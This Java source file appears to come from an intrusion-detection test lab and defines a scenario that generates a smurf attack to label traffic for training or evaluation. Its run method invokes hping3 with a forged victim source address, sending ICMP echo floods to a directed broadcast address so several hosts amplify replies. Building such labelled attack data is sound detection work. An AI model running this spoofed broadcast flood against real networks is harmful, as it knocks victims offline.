package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.FlowPattern;
import gatewatch.features.truth.Proto;
import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Scenario;
import gatewatch.sensor.lab.scenario.Tool;
import java.time.Duration;
import java.util.List;

/**
 * Smurf: hping3 sends echo requests with the victim's forged source address to the server
 * network's directed broadcast address; the gateway forwards them as a link broadcast, and the
 * server and {@value #AMPLIFIERS} more hosts on that network each answer, so the victim (a
 * client-side host, {@code clientAlias(30)}) receives a burst of echo replies it never asked for:
 * the ecr_i records of KDD's smurf. The requests to the broadcast address are labelled smurf
 * too: they are the attack's other half.
 */
public final class DosSmurf implements Scenario {
    /** Hosts on the server network besides the server, each answering every request. */
    public static final int AMPLIFIERS = 4;
    /** Echo requests to send, about; each brings {@code AMPLIFIERS + 1} replies. */
    public static final int PACKETS = 1000;
    public static final int INTERVAL_MICROS = 500;
    static final int VICTIM_ALIAS = 30;

    @Override
    public String name() {
        return "dos-smurf";
    }

    @Override
    public String summary() {
        return "dos/smurf: echo requests forged from a client-side victim to the server network's broadcast, " + (AMPLIFIERS + 1)
                + " hosts answer";
    }

    @Override
    public List<Tool> tools() {
        return List.of(AttackTools.HPING3);
    }

    @Override
    public void run(LabRun lab) throws Exception {
        lab.addServerHosts(AMPLIFIERS);
        String victim = lab.net().clientAlias(VICTIM_ALIAS);
        lab.label(FlowPattern.of(Proto.ICMP, victim, "*").eitherDirection(), TruthCategory.DOS, "smurf");
        lab.pause(Duration.ofMillis(300), Duration.ofMillis(1000));
        // hping3 sees the replies to the victim (its capture listens on the client's link) and its -c
        // stops when as many replies as the count have come: the count is the replies wanted.
        Hping.Stats s = Hping.run(lab, "smurf", Duration.ofSeconds(60), List.of("-q", "--icmp", "-a", victim,
                "-c", Integer.toString(PACKETS * (AMPLIFIERS + 1)), "-i", "u" + INTERVAL_MICROS, "-d", "56", lab.net().serverBroadcast()));
        lab.report("requests_sent", s.transmitted());
        lab.report("replies_seen_by_hping3", s.received());
        lab.report("answering_hosts", AMPLIFIERS + 1);
    }
}
